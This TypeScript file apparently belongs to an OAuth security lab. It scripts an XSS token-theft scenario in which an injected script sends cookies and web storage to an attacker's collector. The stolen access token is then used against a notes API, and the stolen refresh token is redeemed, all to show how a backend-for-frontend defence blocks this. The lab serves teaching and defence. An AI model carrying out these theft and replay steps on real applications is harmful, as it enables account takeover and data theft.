import { defineAttack } from '../engine/define-attack.ts';
import { errorCodeOf } from '../library/attack-support.ts';
import { readableByScripts } from '../library/browser-view.ts';
import { JWT_SHAPE } from '../library/exchanges.ts';
import { ALICE_SECRET_NOTE, readNotes } from '../library/notes-view.ts';
import { signInThroughSpa } from '../library/sign-in.ts';
import { loadAppWithXss, lootData, lootFrom, storageIn } from '../library/xss.ts';

/** Where the public client keeps its tokens (spa/src/token-storage.ts): what the payload looks for. */
const STORED = { accessToken: 'lab.access_token', refreshToken: 'lab.refresh_token', idToken: 'lab.id_token' } as const;

/**
 * Single-execution token theft (OAuth 2.0 for Browser-Based Applications, "Malicious JavaScript
 * Payloads": Single-Execution Token Theft; "Attack Consequences": Exploiting Stolen Access Tokens,
 * Exploiting Stolen Refresh Tokens). An injected script reads whatever page scripts can read,
 * cookies and web storage, and sends it to the attacker once.
 */
export const [xssTokenTheft, xssTokenTheftWeakened] = defineAttack({
  id: 'attack-xss-token-theft',
  title: "XSS token theft: an injected script reads the browser's storage and cookies and sends the tokens away",
  threat:
    'OAuth 2.0 for Browser-Based Applications, "Malicious JavaScript Payloads": Single-Execution Token Theft; then "Exploiting Stolen Access Tokens" and "Exploiting Stolen Refresh Tokens"',
  defence: 'bff-pattern',
  weakenedMode: 'public-client',
  alwaysWeaken: ['spa-csp'],
  teaches:
    "An XSS runs with the page's privileges: whatever page scripts can read, it can read and send away. With the BFF there is nothing to take: the tokens stay in the BFF, and the browser holds one HttpOnly cookie that document.cookie does not show. A public client keeps its tokens in localStorage, so one run of the script hands Mallory an access token she uses from her own machine and a refresh token that mints new ones long after alice has closed the tab.",
  prerequisites: [
    'alice (Resource Owner) signs in to the app in her browser (User Agent).',
    "The app has an XSS bug: the lab's hook makes its page load Mallory's \"steal-storage\" script from the app's own origin, as a stored XSS would. The script reads document.cookie, localStorage and sessionStorage and POSTs them to Mallory's collector (http://[::1]:6660/collect by default).",
    "The SPA's Content-Security-Policy is off in both runs: its connect-src would stop the report itself, and this scenario is about what there is to steal. See attack-xss-proxy for what the CSP does.",
  ],
  async run({ topology, lab, step, newUserAgent, fetchAs }, { defended }) {
    const api = topology['resource-api'].url;
    const issuer = topology.authserver.url;
    await lab.clearLoot();
    const browser = await newUserAgent();
    const page = await browser.newPage();

    await step(
      {
        actor: 'Resource Owner',
        action: 'signs in to the app',
        look: defended ? 'where the tokens end up: in the BFF' : "where the tokens end up: in the page's localStorage",
      },
      async (s) => {
        // The same button in both modes: through /bff/login, or (anti-pattern) the page runs the flow itself.
        await signInThroughSpa(page, topology, 'alice');
        s.expect('the app shows alice signed in', 'alice', await page.getByTestId('user-name').textContent());
        const stored = Object.keys((await readableByScripts(page)).localStorage)
          .filter((key) => (Object.values(STORED) as string[]).includes(key))
          .sort();
        if (defended) s.expect('no token in localStorage', [], stored);
        else s.expectLeak('the tokens in localStorage, for any script to read', [STORED.accessToken, STORED.idToken, STORED.refreshToken], stored);
        s.sees(
          defended
            ? { browser: 'bff_session, an opaque id in an HttpOnly cookie', bff: "alice's access, refresh and ID tokens" }
            : {
                browser: "alice's access, refresh and ID tokens in localStorage (lab.access_token, lab.refresh_token, lab.id_token)",
                bff: 'nothing: the BFF is not used in this mode',
              },
        );
      },
    );

    await step(
      {
        actor: 'Attacker',
        action: "her script runs in alice's page as it loads (the XSS) and sends what it can read to her collector",
        look: 'the report that reached /collect/steal-storage',
      },
      async (s) => {
        const run = await loadAppWithXss(lab, page, 'steal-storage');
        const report = (await lootFrom(lab, 'steal-storage'))[0];
        const data = lootData(report);
        const stolen = storageIn(report);
        s.check(
          "the script ran in alice's page and its report reached the attacker",
          'a report at /collect/steal-storage',
          report ? 'reported' : `no report (script ${run.status})`,
          report !== undefined,
        );
        if (defended) {
          s.expect('document.cookie: empty (bff_session is HttpOnly)', '', data.cookie);
          s.expect('localStorage: no token', {}, stolen);
          s.expect('sessionStorage: no token', {}, storageIn(report, 'sessionStorage'));
          s.check(
            'no JWT anywhere in the report',
            'no eyJ…',
            JWT_SHAPE.test(JSON.stringify(data)) ? 'a JWT' : 'none',
            report !== undefined && !JWT_SHAPE.test(JSON.stringify(data)),
          );
          s.note(
            "The script ran with all the page's privileges and found nothing: the tokens never came to the browser, and the one cookie it has is HttpOnly.",
          );
          s.sees({ browser: 'no token to give away', attacker: 'an empty report', bff: "alice's tokens, out of the script's reach" });
        } else {
          s.checkLeak(
            'an access token (a JWT) from localStorage',
            'lab.access_token: eyJ…',
            stolen[STORED.accessToken]?.slice(0, 12),
            JWT_SHAPE.test(stolen[STORED.accessToken] ?? ''),
          );
          s.checkLeak(
            'a refresh token',
            'lab.refresh_token: …',
            stolen[STORED.refreshToken]?.slice(0, 8),
            typeof stolen[STORED.refreshToken] === 'string' && stolen[STORED.refreshToken] !== '',
          );
          s.checkLeak(
            'and an ID token (name, e-mail)',
            'lab.id_token: eyJ…',
            stolen[STORED.idToken]?.slice(0, 12),
            JWT_SHAPE.test(stolen[STORED.idToken] ?? ''),
          );
          s.note("One run of the script was enough: the tokens are now on Mallory's server, and nothing in the app or at the authorization server noticed.");
          s.sees({ browser: 'the same tokens, still there; alice sees nothing unusual', attacker: "alice's access, refresh and ID tokens" });
        }
      },
    );

    const report = (await lootFrom(lab, 'steal-storage'))[0];
    const stolen = storageIn(report);
    const accessToken = stolen[STORED.accessToken];
    const refreshToken = stolen[STORED.refreshToken];

    await step(
      { actor: 'Attacker', action: `calls the notes API from her own machine: GET ${api}/notes with what she stole`, look: 'whose notes come back' },
      async (s) => {
        const response = await fetchAs('attacker', `${api}/notes`, accessToken ? { headers: { Authorization: `Bearer ${accessToken}` } } : {});
        const text = await response.text();
        if (defended) {
          s.expect('she has no token to send', undefined, accessToken);
          s.expect(
            'the API refuses a call without one: 401 missing_token',
            { status: 401, error: 'missing_token' },
            { status: response.status, error: errorCodeOf(text) },
          );
          s.expect(
            'with the RFC 6750 §3 challenge and the RFC 9449 §7.1 one (no error code: no credentials were sent)',
            'Bearer realm="resource-api", DPoP algs="ES256 Ed25519 EdDSA"',
            response.headers.get('www-authenticate'),
          );
          s.sees({ attacker: "a 401, and no way to get alice's token out of the BFF" });
        } else {
          const notes = readNotes(JSON.parse(text || '{}'));
          s.expectLeak("the API serves alice's notes to Mallory", { status: 200, owner: 'alice' }, { status: response.status, owner: notes.owner });
          s.checkLeak('her private note among them', ALICE_SECRET_NOTE, notes.texts, notes.texts.includes(ALICE_SECRET_NOTE));
          s.note("A bearer token works for whoever holds it (RFC 6750 §1.2): the API cannot tell Mallory's machine from alice's browser.");
          s.sees({ attacker: "alice's notes, read from her own machine", api: 'a valid token for alice' });
        }
      },
    );

    await step(
      {
        actor: 'Attacker',
        action: `redeems the stolen refresh token at ${issuer}/token as the public client spa-public (no secret needed)`,
        look: 'a new access token, minted for Mallory',
      },
      async (s) => {
        const response = await fetchAs('attacker', `${issuer}/token`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
          body: new URLSearchParams({ grant_type: 'refresh_token', refresh_token: refreshToken ?? '', client_id: 'spa-public', resource: api }),
        });
        const tokens = (await response.json().catch(() => ({}))) as { access_token?: string; refresh_token?: string; error?: string };
        if (defended) {
          s.expect('she has no refresh token to redeem', undefined, refreshToken);
          s.expect(
            'and the public client is switched off while the lab runs the BFF: 400 unauthorized_client (RFC 6749 §5.2)',
            { status: 400, error: 'unauthorized_client' },
            { status: response.status, error: tokens.error },
          );
          s.note(
            "The refresh token is in the BFF's session store, and only the BFF, with its client secret, can redeem it. spa-public, a client without a secret, exists for the anti-pattern mode only.",
          );
          s.sees({ attacker: 'nothing to redeem', bff: 'the only holder of the refresh token' });
          return;
        }
        s.expectLeak('the token endpoint issues new tokens: 200', 200, response.status);
        s.checkLeak('a fresh access token for alice', 'eyJ…', tokens.access_token?.slice(0, 12) ?? tokens.error, JWT_SHAPE.test(tokens.access_token ?? ''));
        s.checkLeak(
          "and a new refresh token: the grant now lives on in Mallory's hands",
          'a refresh token',
          tokens.refresh_token ? 'received' : 'none',
          typeof tokens.refresh_token === 'string',
        );
        s.note(
          "A public client has no secret (RFC 6749 §2.1), so the refresh token alone is enough, from anywhere. Rotation does not save alice: Mallory now holds the newest refresh token; the next time alice's page refreshes with its old one, the authorization server sees a reuse and revokes the grant for both of them; a script that stays in the page avoids even that (see attack-persistent-theft).",
        );
        s.sees({ attacker: 'a new access token and refresh token for alice, minted herself', authserver: 'a refresh by spa-public, like any other' });
      },
    );
  },
});
